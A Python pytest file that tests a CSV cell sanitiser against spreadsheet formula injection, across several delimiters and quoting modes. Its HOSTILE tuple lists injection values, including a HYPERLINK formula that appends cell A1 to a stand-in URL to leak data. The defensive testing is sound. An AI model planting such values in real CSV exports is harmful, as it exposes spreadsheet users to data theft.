"""No program that reads a cell of a CSV file as one or as several is told a formula by it."""

from __future__ import annotations

import csv
import io

import pytest

from benchd.texts.csv_cells import BEGINS_FORMULA, cell

HOSTILE = (
    "=1+1",
    "X;=1+1;",
    'A;=HYPERLINK("http://e/"&A1;"x")',
    "X; ＝1+1",
    'X;"=1+1"',
    "X|@SUM(A1)",
    ";;-1",
    "X\t=1+1",
)


@pytest.mark.parametrize("told", HOSTILE)
@pytest.mark.parametrize("divider", [",", ";", "|", "\t"])
def test_no_part_of_a_cell_begins_a_formula(told: str, divider: str) -> None:
    text = io.StringIO()
    csv.writer(text, quoting=csv.QUOTE_ALL).writerow(["before", cell(told), "after"])
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        [row] = csv.reader([text.getvalue()], delimiter=divider, quoting=quoting)
        for part in row:
            assert not part.strip(" \"'").startswith(BEGINS_FORMULA) or part.strip(' "')[0] == "'"


@pytest.mark.parametrize("told", ["SO-51B", "A; B", "2026-11-03", "a|b", "T-1", "1;2"])
def test_what_is_no_formula_stays_as_it_was_told(told: str) -> None:
    assert cell(told) == told
